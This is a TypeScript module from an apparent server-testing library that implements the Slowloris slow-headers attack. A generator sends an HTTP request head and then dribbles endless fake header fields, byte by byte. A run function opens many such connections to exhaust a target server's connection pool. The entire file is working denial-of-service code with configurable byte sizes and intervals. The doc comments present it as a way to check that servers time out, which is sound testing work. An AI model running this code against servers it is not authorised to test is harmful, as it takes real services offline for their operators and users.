/**
 * Clients that never finish their header fields: the attack of Slowloris (Robert Hansen, 2009), which takes all connections of a server
 * that waits for each as long as something comes.
 *
 * @since 0.1.0
 */
import type * as Duration from "effect/Duration"
import type * as Effect from "effect/Effect"
import type * as Attack from "./Attack.ts"
import { encodeFields } from "./HttpRequest.ts"
import { dribble } from "./internal/dribble.ts"
import * as swarm from "./internal/swarm.ts"
import type { Input, Resolved } from "./Target.ts"

/**
 * Options of `run`.
 *
 * @category options
 * @since 0.1.0
 */
export interface Options extends Attack.Options {
  /** The request target. By default the path of the URL that the target was given as, else `/`. */
  readonly path?: string | undefined
  /**
   * How many bytes of the request line and the `Host` field are sent at once; what remains of them is dribbled like all that follows. An
   * integer from 0, which dribbles from the first byte, to `Infinity`, which sends both whole.
   *
   * @default Infinity
   */
  readonly atOnce?: number | undefined
  /**
   * How many bytes are sent each `interval`. An integer from 1.
   *
   * @default 1
   */
  readonly pieceBytes?: number | undefined
  /**
   * The time between two pieces. Above 0 and finite.
   *
   * @default "1 second"
   */
  readonly interval?: Duration.Input | undefined
}

/** The head of the request, then a field after the other without end. */
function* pieces(target: Resolved, { path, pieceBytes = 1, atOnce = Infinity }: Options): Generator<string> {
  const head = encodeFields(target, { path })
  if (atOnce > 0) yield head.slice(0, atOnce)
  let rest = head.slice(Math.min(atOnce, head.length))
  for (let n = 1; ; n++) {
    while (rest.length >= pieceBytes) {
      yield rest.slice(0, pieceBytes)
      rest = rest.slice(pieceBytes)
    }
    rest += `X-Slow-${n}: ${n}\r\n`
  }
}

/**
 * Opens connections that dribble header fields without end, and reports how each of them ended.
 *
 * **Details**
 *
 * Returns when all have ended or were watched for `duration`. It does not fail: connections that could not be opened are in the report.
 * Interruption closes them at once. A good server answers 408, after the time that it gives to headers as a whole.
 *
 * @category running
 * @since 0.1.0
 */
export const run = (target: Input, options: Options = {}): Effect.Effect<Attack.Report> =>
  swarm.run("SlowHeaders.run", target, options, {
    open: swarm.plain(),
    act: (connection, resolved) => {
      swarm.checkCount("SlowHeaders.run: atOnce", options.atOnce ?? Infinity, 0)
      swarm.checkInteger("SlowHeaders.run: pieceBytes", options.pieceBytes ?? 1)
      const interval = swarm.checkMillis("SlowHeaders.run: interval", options.interval ?? "1 second")
      return dribble(connection, pieces(resolved, options), interval)
    }
  })
